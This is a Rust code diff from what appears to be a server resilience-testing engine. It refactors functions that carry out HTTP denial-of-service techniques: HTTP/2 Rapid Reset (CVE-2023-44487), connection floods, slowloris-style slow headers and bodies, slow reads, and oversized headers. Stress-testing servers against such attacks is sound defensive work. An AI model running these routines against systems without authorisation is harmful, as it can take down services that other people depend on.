@@ -76,8 +76,8 @@ impl Engine {
             _ => &self.http1,
         };
         // A target that closes while we are still dialling has refused us.
-        match tokio::time::timeout(DIAL, dial(config, &class, &who, target)).await {
-            Ok(Ok(stream)) => Ok(act(stream, &class, &who).await),
+        match tokio::time::timeout(DIAL, dial(config, &class, planned.ask, &who, target)).await {
+            Ok(Ok(stream)) => Ok(act(stream, &class, planned.ask, &who).await),
             Ok(Err(error)) if error.kind() == io::ErrorKind::ConnectionRefused => Err(error),
             Ok(Err(_)) => Ok(Ending::Closed),
             Err(_) => Ok(Ending::Endured),
@@ -85,9 +85,9 @@ impl Engine {
     }
 }
 
-async fn act(stream: Box<dyn Io>, class: &Class, who: &Client) -> Ending {
+async fn act(stream: Box<dyn Io>, class: &Class, ask: u16, who: &Client) -> Ending {
     match class.behaviour {
-        Behaviour::RapidReset { streams, lasts } => reset(stream, class, who, streams, lasts).await,
+        Behaviour::RapidReset { streams, lasts } => reset(stream, class, ask, who, streams, lasts).await,
         // Requests are another engine's.
         Behaviour::Request => Ending::Endured,
         Behaviour::ConnectionFlood { lasts } | Behaviour::HandshakeFlood { lasts } => {
@@ -95,7 +95,7 @@ async fn act(stream: Box<dyn Io>, class: &Class, who: &Client) -> Ending {
             until_answer(read, silence(write), lasts).await
         }
         Behaviour::SlowHead { every, lasts } => {
-            let bytes = request(class, who);
+            let bytes = request(class, ask, who);
             let (read, write) = tokio::io::split(stream);
             until_answer(read, trickle(write, Vec::new(), bytes, every), lasts).await
         }
@@ -104,11 +104,13 @@ async fn act(stream: Box<dyn Io>, class: &Class, who: &Client) -> Ending {
             class.request.method = "POST".to_owned();
             class.request.body = Body::Sized { size: Size(SLOW_BODY) };
             let mut first = Vec::new();
-            Template::new(&class.request).write_head(who, &mut first);
+            Template::new(&class, ask).write_head(who, &mut first);
             let (read, write) = tokio::io::split(stream);
             until_answer(read, trickle(write, first, vec![b'x'; SLOW_BODY as usize], every), lasts).await
         }
-        Behaviour::SlowRead { every, lasts } => slow_read(stream, class, who, every, lasts).await,
+        Behaviour::SlowRead { every, lasts } => {
+            slow_read(stream, request(class, ask, who), every, lasts).await
+        }
         Behaviour::HugeHead { size, lasts } => {
             let mut class = class.clone();
             let fields = (size.0 / FIELD).max(1);
@@ -116,21 +118,21 @@ async fn act(stream: Box<dyn Io>, class: &Class, who: &Client) -> Ending {
             let headers = (0..fields).map(|number| (format!("x-{number:05}"), value.clone()));
             class.request.headers.extend(headers);
             let (read, write) = tokio::io::split(stream);
-            until_answer(read, pour(write, request(&class, who)), lasts).await
+            until_answer(read, pour(write, request(&class, ask, who)), lasts).await
         }
         Behaviour::ChunkedOverSize { size, lasts } => {
             let mut class = class.clone();
             class.request.method = "POST".to_owned();
             class.request.body = Body::Chunked { size };
             let (read, write) = tokio::io::split(stream);
-            until_answer(read, pour(write, request(&class, who)), lasts).await
+            until_answer(read, pour(write, request(&class, ask, who)), lasts).await
         }
     }
 }
 
-fn request(class: &Class, who: &Client) -> Vec<u8> {
+fn request(class: &Class, ask: u16, who: &Client) -> Vec<u8> {
     let mut bytes = Vec::new();
-    Template::new(&class.request).write(who, &mut bytes);
+    Template::new(class, ask).write(who, &mut bytes);
     bytes
 }
 
@@ -195,10 +197,10 @@ async fn pour(mut write: WriteHalf<Box<dyn Io>>, bytes: Vec<u8>) {
 }
 
 /// Asks, and takes one byte at a time. Whoever gives up on such a client closes; buffers of the system may hold much.
-async fn slow_read(stream: Box<dyn Io>, class: &Class, who: &Client, every: Span, lasts: Span) -> Ending {
+async fn slow_read(stream: Box<dyn Io>, request: Vec<u8>, every: Span, lasts: Span) -> Ending {
     let (mut read, mut write) = tokio::io::split(stream);
     let reading = async {
-        if write.write_all(&request(class, who)).await.is_err() {
+        if write.write_all(&request).await.is_err() {
             return Ending::Closed;
         }
         let mut reader = Reader::default();
@@ -216,7 +218,14 @@ async fn slow_read(stream: Box<dyn Io>, class: &Class, who: &Client, every: Span
 }
 
 /// Opens streams and resets each at once (CVE-2023-44487).
-async fn reset(stream: Box<dyn Io>, class: &Class, who: &Client, streams: u64, lasts: Span) -> Ending {
+async fn reset(
+    stream: Box<dyn Io>,
+    class: &Class,
+    ask: u16,
+    who: &Client,
+    streams: u64,
+    lasts: Span,
+) -> Ending {
     let mut class = class.clone();
     class.request.protocol = Protocol::Http2;
     let flooding = async {
@@ -225,7 +234,7 @@ async fn reset(stream: Box<dyn Io>, class: &Class, who: &Client, streams: u64, l
         };
         let opening = async move {
             for _ in 0..streams {
-                let (Ok(ready), Ok(request)) = (sender.ready().await, head(&class, who)) else { break };
+                let (Ok(ready), Ok(request)) = (sender.ready().await, head(&class, ask, who)) else { break };
                 sender = ready;
                 let Ok((_, mut opened)) = sender.send_request(request, false) else { break };
                 opened.send_reset(h2::Reason::CANCEL);
